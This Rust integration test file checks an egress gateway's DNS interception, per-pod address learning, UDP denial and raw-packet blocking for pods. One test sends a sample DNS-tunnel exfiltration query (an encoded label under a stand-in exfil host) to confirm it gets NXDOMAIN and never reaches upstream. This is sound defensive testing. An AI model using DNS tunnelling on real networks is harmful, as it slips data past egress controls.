//! DNS, UDP and raw sockets under REGISTRY_ONLY: pods' DNS queries are
//! answered by the gateway, names they resolved open the way for plain TCP,
//! DNS-type entries are resolved by the gateway itself, UDP elsewhere and raw
//! packets never leave the pod.

use std::path::PathBuf;
use std::time::Duration;

use gateway_tests::addresses::*;
use gateway_tests::certs;
use gateway_tests::client::{EchoRun, curl_status, run_echo_client};
use gateway_tests::dnsmasq::Dnsmasq;
use gateway_tests::echo_server::EchoServer;
use gateway_tests::gateway_process::{Gateway, GatewayConfig};
use gateway_tests::nginx::{BODY_PREFIX, Nginx};
use gateway_tests::topology::{Pod, Topology};
use gateway_tests::udp_sink::UdpSink;

const CLIENT: &str = env!("CARGO_BIN_EXE_gw-test-client");
/// The resolver pods think they ask; the query never leaves the pod unproxied.
const POD_RESOLVER: &str = "198.51.100.53";

const REGISTRY: &str = "apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {name: learned, namespace: default}
spec:
  hosts: [learned.test]
  ports: [{number: 7, name: tcp-echo, protocol: TCP}]
  location: MESH_EXTERNAL
  resolution: NONE
---
apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {name: resolved, namespace: default}
spec:
  hosts: [dns.test]
  ports: [{number: 80, name: http, protocol: HTTP}]
  location: MESH_EXTERNAL
  resolution: DNS
";

struct Setup {
    topo: Topology,
    dns: Dnsmasq,
    gw: Gateway,
}

fn setup(extra_args: &[&str]) -> Setup {
    let topo = Topology::build();
    let dns = Dnsmasq::start(
        &topo.internet,
        topo.temp.path(),
        "203.0.113.10",
        &[("learned.test", "203.0.113.13"), ("dns.test", "203.0.113.10"), ("other.test", "203.0.113.12")],
    );
    let dir = topo.temp.subdir("istio");
    std::fs::write(dir.join("registry.yaml"), REGISTRY).unwrap();
    let mut config = GatewayConfig::enforcing(&topo, vec![PathBuf::from(&dir)]);
    config.extra_args = ["--dns-upstream", "203.0.113.10:53"].iter().chain(extra_args).map(|s| s.to_string()).collect();
    let gw = Gateway::start(&topo, config);
    Setup { topo, dns, gw }
}

/// `dig` in the pod against the resolver it believes in; (stdout, stderr).
fn dig(pod: &Pod, args: &[&str]) -> (String, String) {
    let mut all = vec!["+time=3", "+tries=1"];
    let server = format!("@{POD_RESOLVER}");
    all.push(&server);
    all.extend_from_slice(args);
    let out = pod.command("dig", &all).output().expect("run dig");
    (String::from_utf8_lossy(&out.stdout).into_owned(), String::from_utf8_lossy(&out.stderr).into_owned())
}

#[test]
fn a_name_resolved_through_the_gateway_opens_plain_tcp_to_its_address_for_that_pod_only() {
    let s = setup(&["--dns-unknown", "refuse"]);
    let echo = EchoServer::start(&s.topo.internet, &[7]);
    let (out, err) = dig(&s.topo.pod_a, &["+short", "learned.test", "A"]);
    assert_eq!(out.trim(), "203.0.113.13", "dig learned.test: {out}{err}\n{}", s.gw.stderr_tail());
    let (out, _) = dig(&s.topo.pod_a, &["+tcp", "+short", "learned.test", "A"]);
    assert_eq!(out.trim(), "203.0.113.13", "the same over TCP");
    // Unregistered names: NXDOMAIN, and dnsmasq never sees them.
    let (out, _) = dig(&s.topo.pod_a, &["other.test", "A"]);
    assert!(out.contains("status: NXDOMAIN"), "{out}");

    let target = [sock(internet_v4(3), 7)];
    let summary = run_echo_client(|a| s.topo.pod_a.command(CLIENT, a), &EchoRun::to(&target));
    assert!(summary.results.iter().all(|r| r.intact), "pod-a after its lookup: {}\n{}{}", summary.raw, s.gw.stdout(), s.gw.stderr_tail());
    let line = s.gw.wait_json_line("connection", "dns-learned", |v| v["orig_dst"] == "203.0.113.13:7");
    assert_eq!((line["reason"].as_str(), line["matched"]["host"].as_str()), (Some("dns-learned"), Some("learned.test")), "{line}");

    // pod-b never asked: the same address is not its to reach.
    let summary = run_echo_client(|a| s.topo.pod_b.command(CLIENT, a), &EchoRun { timeout: Duration::from_secs(5), ..EchoRun::to(&target) });
    assert!(summary.results.iter().all(|r| !r.intact), "pod-b must be refused: {}", summary.raw);
    let line = s.gw.wait_json_line("connection", "pod-b refused", |v| v["src"].as_str().is_some_and(|a| a.starts_with("198.18.2.2")));
    assert_eq!(line["reason"], "not-registered", "{line}");
    assert_eq!(echo.accepted().len(), 1, "only pod-a's connection arrives");

    let queries = s.dns.queries();
    assert!(queries.iter().any(|q| q.contains("learned.test") && q.contains(&NODE_INTERNET_V4.to_string())), "dnsmasq should be asked by the node: {queries:?}");
    assert!(!queries.iter().any(|q| q.contains("other.test")), "refused names are not forwarded: {queries:?}");
    assert!(s.gw.metric("gateway_kernel_events_total{event=\"dns_redirected\"}") >= 3);
    assert!(s.gw.metric("gateway_dns_answers_total{outcome=\"refused\"}") >= 1);
    drop(s.gw);
    s.topo.teardown();
}

#[test]
fn a_dns_type_entry_is_reached_at_the_gateways_own_resolution() {
    let s = setup(&[]);
    let certs = certs::generate(&s.topo.temp.subdir("certs"), "web.test");
    let nginx = Nginx::start(&s.topo.internet, s.topo.temp.path(), &certs, INTERNET_V4.into());
    // The pod dials .11 with Host dns.test; the gateway resolves dns.test (.10) itself.
    let (code, body, err) = curl_status(|a| s.topo.pod_a.command("curl", a), &["-H", "Host: dns.test", "http://203.0.113.11/"]);
    assert_eq!((code, body.as_str()), (200, format!("{BODY_PREFIX}dns.test\n").as_str()), "{err}\n{}", s.gw.stderr_tail());
    let seen = nginx.wait_for_entries(1, Duration::from_secs(10));
    assert!(seen.iter().all(|e| e.server_addr.to_string() == "203.0.113.10"), "only the real dns.test is reached: {seen:?}");
    let line = s.gw.wait_json_line("request", "resolved", |v| v["host"] == "dns.test");
    assert_eq!((line["upstream"].as_str(), line["reason"].as_str()), (Some("203.0.113.10:80"), Some("registered-host")), "{line}");
    drop((s.gw, nginx));
    s.topo.teardown();
}

/// Sends one ICMP echo request on a raw socket and says whether a reply came.
const RAW_ECHO: &str = "import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.settimeout(1)
try:
    s.sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), (sys.argv[1], 0))
except OSError as e:
    print('send-error', e.errno); sys.exit(0)
try:
    while True:
        d, _ = s.recvfrom(2048)
        if d[20] == 0:
            print('reply'); break
except socket.timeout:
    print('no-reply')
";

#[test]
fn udp_elsewhere_and_raw_packets_never_leave_the_pod() {
    let s = setup(&[]);
    let sink = UdpSink::start(&s.topo.internet, 9999);
    let send = |pod: &Pod, address: &str, in_cgroup: bool| {
        let script = format!("echo datagram | socat -u - {address}");
        let mut cmd = if in_cgroup { pod.command("sh", &["-c", &script]) } else { pod.command_outside_cgroup("sh", &["-c", &script]) };
        cmd.output().expect("socat").status.success()
    };
    // Connected and unconnected UDP from the pod: refused at the socket.
    assert!(!send(&s.topo.pod_a, "UDP:203.0.113.10:9999", true), "connected UDP must fail");
    assert!(!send(&s.topo.pod_a, "UDP-SENDTO:203.0.113.10:9999", true), "sendto must fail");
    assert!(!send(&s.topo.pod_a, "UDP6-SENDTO:[2001:db8:113::10]:9999", true), "IPv6 sendto must fail");
    // A raw ICMP echo (root in the pod has CAP_NET_RAW): dropped by the backstop.
    let raw = |in_cgroup: bool| {
        let args = ["-c", RAW_ECHO, "203.0.113.10"];
        let mut cmd = if in_cgroup { s.topo.pod_a.command("python3", &args) } else { s.topo.pod_a.command_outside_cgroup("python3", &args) };
        String::from_utf8_lossy(&cmd.output().expect("python3").stdout).trim().to_string()
    };
    assert_eq!(raw(false), "reply", "control: from outside the cgroup the echo is answered");
    let from_pod = raw(true);
    assert!(from_pod == "no-reply" || from_pod.starts_with("send-error"), "raw echo from the pod: {from_pod}");
    // The same datagram from outside the pod's cgroup arrives: the sink works.
    assert!(send(&s.topo.pod_a, "UDP-SENDTO:203.0.113.10:9999", false));
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(sink.received(), 1, "only the un-intercepted datagram arrives");
    assert!(s.gw.metric("gateway_kernel_events_total{event=\"udp_denied\"}") >= 3);
    assert!(s.gw.metric("gateway_kernel_events_total{event=\"backstop_dropped\"}") >= 1);
    drop(s.gw);
    s.topo.teardown();
}

/// Under REGISTRY_ONLY, query names cannot carry data out: a name neither
/// registered nor the cluster's own gets NXDOMAIN and an audit line, and the
/// upstream resolver (beyond the routing node) never sees it. The cluster's
/// domain is still forwarded; `--dns-unknown forward` forwards everything.
#[test]
fn unregistered_names_never_reach_the_upstream_resolver() {
    let s = setup(&[]);
    let tunnel = "agvsbg8gd29ybgq.exfil.example.com";
    let (out, err) = dig(&s.topo.pod_a, &["+short", tunnel, "A"]);
    assert!(out.trim().is_empty(), "no answer for the unregistered name: {out}{err}");
    let (full, _) = dig(&s.topo.pod_a, &[tunnel, "A"]);
    assert!(full.contains("status: NXDOMAIN"), "{full}");
    let (_, _) = dig(&s.topo.pod_a, &["kube-dns.kube-system.svc.cluster.local", "A"]);
    let (registered, _) = dig(&s.topo.pod_a, &["+short", "learned.test", "A"]);
    assert_eq!(registered.trim(), "203.0.113.13", "a registered name still resolves");
    let line = s.gw.wait_json_line("dns", "the refused query", |v| v["name"] == tunnel);
    assert_eq!((line["decision"].as_str(), line["reason"].as_str(), line["workload"]["namespace"].as_str()), (Some("deny"), Some("not-registered"), Some("default")), "{line}");
    assert_eq!(line["src"].as_str(), Some(s.topo.pod_a.v4.to_string().as_str()), "{line}");
    let upstream = gateway_tests::wait::poll(Duration::from_secs(5), Duration::from_millis(50), || {
        let log = s.dns.log_text();
        log.contains("kube-dns.kube-system.svc.cluster.local").then_some(log)
    })
    .expect("the cluster's own domain is forwarded upstream");
    assert!(!upstream.contains("exfil.example.com"), "the upstream resolver must never see the unregistered name:\n{upstream}");
    drop(s.gw);
    s.topo.teardown();

    // Asked for explicitly, everything is forwarded.
    let s = setup(&["--dns-unknown", "forward"]);
    let (out, _) = dig(&s.topo.pod_a, &["+short", "other.test", "A"]);
    assert_eq!(out.trim(), "203.0.113.12", "forwarded when asked for");
    drop(s.gw);
    s.topo.teardown();
}
